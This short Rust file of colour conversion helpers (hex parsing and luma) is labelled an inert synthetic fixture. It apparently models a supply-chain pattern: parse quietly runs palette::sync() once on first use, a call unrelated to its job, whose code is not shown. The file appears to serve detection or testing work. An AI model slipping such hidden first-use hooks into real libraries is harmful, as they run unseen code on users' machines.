// Synthetic, inert fixture written from public reports; see README
//! Colour conversion helpers.

mod palette;

/// Red, green and blue of a `#rrggbb` colour.
pub fn parse(hex: &str) -> Option<(u8, u8, u8)> {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| drop(palette::sync()));
    let n = u32::from_str_radix(hex.strip_prefix('#')?, 16).ok()?;
    Some(((n >> 16) as u8, (n >> 8) as u8, n as u8))
}

/// Perceived brightness between 0 and 255.
pub fn luma((r, g, b): (u8, u8, u8)) -> u8 {
    ((u32::from(r) * 299 + u32::from(g) * 587 + u32::from(b) * 114) / 1000) as u8
}

inert_fixture_does_not_build!();
